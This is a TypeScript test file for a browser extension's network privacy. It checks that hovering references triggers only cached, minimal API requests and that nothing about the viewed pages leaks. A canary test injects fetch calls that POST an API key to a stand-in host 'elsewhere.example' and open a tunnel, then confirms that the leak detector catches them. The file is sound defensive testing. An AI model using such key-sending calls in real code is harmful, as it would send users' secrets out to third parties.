import { sizes } from '../../size.ts';
import type { DrivenPage, Driver } from '../driver/driver.ts';
import { pointOf } from '../driver/hands.ts';
import { prefer } from '../driver/set-up.ts';
import { until } from '../driver/until.ts';
import { expect, once, test } from '../story.ts';
import { firstWithHovers, type Place, pagesIn, placesOn, toPageUrl } from '../wire/session-pages.ts';
import { openWired } from '../wire/wired.ts';

const { wirePages, wirePagesWithHovers } = sizes;
// How many pages without hovers are opened before each page with hovers.
const pagesBetween = Math.ceil(firstWithHovers / wirePagesWithHovers);
const hoversOnEach = 10;

// Both stories share a browser. The second one proves that leaks would be found in it.
let opening: ReturnType<typeof openWired> | undefined;
const wired = (browserKind: Driver['name']) => (opening ??= openWired(browserKind));
test.afterAll(async () => (await opening)?.close());

/** Opens a page and waits until Hashlens has scanned it and the pages in its frames. */
async function view(page: DrivenPage, number: number): Promise<void> {
  await page.goto(toPageUrl(number));
  const isLooked = () => page.evaluate((all) => Reflect.get(globalThis, 'looked') === all, pagesIn(number));
  await until(`page ${number} and what it frames are looked at`, isLooked, 30_000);
}

/** Hovers a reference until its card has the answer, then closes the card. */
async function rest(page: DrivenPage, { id, name }: Place): Promise<void> {
  // Moves in a single step: on a busy machine, an intermediate step on another reference would count as a hover.
  await page.moveTo(await pointOf(page, `#${id}`), 1);
  await until(`a card named "${name}" has its answer`, async () => {
    const [card, second] = await page.cards();
    return second === undefined && card?.name === name && !card.busy && card.text !== '' && card.alerts.length === 0;
  });
  await page.press('Escape');
}

test(
  'of all page views and hovers only the API hears, once of each unknown, and nothing about the pages',
  once,
  async ({ browserKind }) => {
    // At full size and next to other stories, this takes six minutes.
    test.setTimeout(1_200_000);
    const { driver, apiRequests, views, leaks } = await wired(browserKind);
    await prefer(driver, { showAfterMs: 100 });
    const page = await driver.openPage('about:blank');
    let hovers = 0;
    let expected = 0;
    const hoverAll = async (places: Place[], requestsEach: number) => {
      for (const place of places) {
        await rest(page, place);
        hovers += 1;
        expected += requestsEach;
        expect(apiRequests().length, `after ${place.name}`).toBe(expected);
      }
    };

    let known: Place[] = [];
    for (let turn = 0; turn < wirePagesWithHovers; turn += 1) {
      const start = turn * pagesBetween;
      const between = Array.from({ length: Math.min(pagesBetween, firstWithHovers - start) }, (_, at) => start + at);
      for (const number of between.filter((one) => pagesIn(one) > 0)) await view(page, number);
      await view(page, firstWithHovers + turn);
      expect(apiRequests().length, `after page ${firstWithHovers + turn}`).toBe(expected);
      const { final, moving } = placesOn(firstWithHovers + turn);
      await hoverAll([...final, ...moving], 1);
      // Final answers are cached from now on, for every page.
      await hoverAll([...known, ...final, ...final].slice(0, final.length + moving.length), 0);
      known = final.slice(1);
    }

    expect(views()).toBe(wirePages);
    expect(hovers).toBe(wirePagesWithHovers * hoversOnEach);
    expect(expected).toBe(hovers / 2);
    expect(new Set(apiRequests()).size).toBe(expected);
    expect(leaks()).toEqual([]);
  },
);

test('what a page sends by itself to the API or elsewhere is found on the wire', once, async ({ browserKind }) => {
  const { driver, api, leaks } = await wired(browserKind);
  const page = await driver.openPage(toPageUrl(1));
  expect(leaks()).toEqual([]);
  const hash = `0x${'0'.repeat(64)}`;

  await page.evaluate(
    (apiUrl, key, path) => {
      const send = (url: string, init: RequestInit = {}) =>
        void fetch(url, { mode: 'no-cors', ...init }).catch(() => {});
      send(`${apiUrl}${path}?apikey=${key}&page=${encodeURIComponent(location.href)}`);
      send('http://elsewhere.example/', { method: 'POST', body: key });
      send('https://tunnel.example/');
    },
    api.url,
    api.key,
    `/1/api/v2/transactions/${hash}`,
  );

  await expect
    .poll(leaks)
    .toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^the parameter page: GET http:\/\/127/),
        expect.stringMatching(/^the header referer: GET http:\/\/127/),
        expect.stringMatching(/^the page’s host bank\.example: GET http:\/\/127/),
        'nobody asked for it: POST http://elsewhere.example/',
        'the key goes elsewhere: POST http://elsewhere.example/',
        'nobody asked for it: CONNECT tunnel.example:443',
      ]),
    );
});
